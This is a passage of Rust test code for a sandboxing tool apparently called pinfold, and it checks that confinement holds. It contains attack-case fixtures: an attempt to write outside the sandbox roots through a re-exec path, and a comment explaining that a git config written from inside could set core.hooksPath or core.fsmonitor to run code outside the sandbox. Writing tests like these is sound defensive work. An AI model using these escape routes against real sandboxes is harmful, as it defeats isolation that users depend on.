    let argv = a.sh_script("reexec", &format!("t 'write outside' 'echo x > {}/x'\nexit 7\n", Fx::s(&a.out)));
    let r = a.exec(&[], &argv);
    assert_eq!(r.code, Some(7), "{}: the re-executed helper must pass the status on\n{}", a.label(), r.show());
    assert!(exists_change(&a.out.join("x")).is_none(), "{}: wrote outside the roots through the re-exec path", a.label());
}

/// `git init` in a directory that is not yet a repository is refused: the default preset
/// protects `.git/config` and `.git/hooks` even before they exist (a placeholder `.git` for the
/// run), because a config written from inside could set `core.hooksPath` or `core.fsmonitor`
/// and run code outside the sandbox later. Decision recorded in docs/design/threat-model.md;
/// run `git init` outside pinfold. The host must be left without a `.git`.
pub(crate) fn git_init_refused(u: User) {
    attack_case(
        u,
        "git_init_refused",
        &|fx| {
            let fresh = fx.base.join("fresh");
            fs::create_dir_all(&fresh).expect("mkdir");
            fx.cwd = fresh;
            fx.own();
        },
        &|fx| fx.sh_script("git_init", &format!("{GIT_ID}t 'git init' 'git init -q -b main'\n")),
        &|fx| {
            let g = fx.cwd.join(".git");
            if g.join("config").exists() || g.join("HEAD").exists() {
                vec![format!("{} was created", g.display())]
            } else {
                Vec::new()
            }
        },
    );
}

/// Many runs started at once in one project share the placeholders for its missing policy
/// files: a run that looks at a path while another run makes its placeholder there must take
/// it for what it is now (another run's placeholder), not for a link to nothing. Every run
/// succeeds, round after round.
fn many_runs_start_at_once(u: User) {
    let mut fx = Fx::new(u, "many_runs_start_at_once");
    // The user's own allow-everything policy, so that the project has no policy file and
    // every run makes or shares all eight placeholders.
    let allow = fx.out.join("allow.toml");
    fx.put(&allow, TEST_POLICY);
    let _ = fs::remove_file(fx.proj.join("pinfold.toml"));
    fx.config = Some(allow);
    fx.own();
    for round in 0..6 {
        let runs: Vec<_> = (0..10)
            .map(|_| {
                let full = fx.exec_argv(&[], &["true".to_string()]);
                let mut c = fx.cmd(&full);
                c.stdout(Stdio::null()).stderr(Stdio::piped());
                c.spawn().expect("start a run")
            })
            .collect();
        for child in runs {
            let out = child.wait_with_output().expect("wait for a run");
            assert!(
                out.status.success(),
                "{}: round {round}: a run failed: {}",
                fx.label(),
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
    for name in POLICY_NAMES {
        assert!(!fx.proj.join(name).exists(), "{}: a placeholder {name} was left behind", fx.label());
    }
}
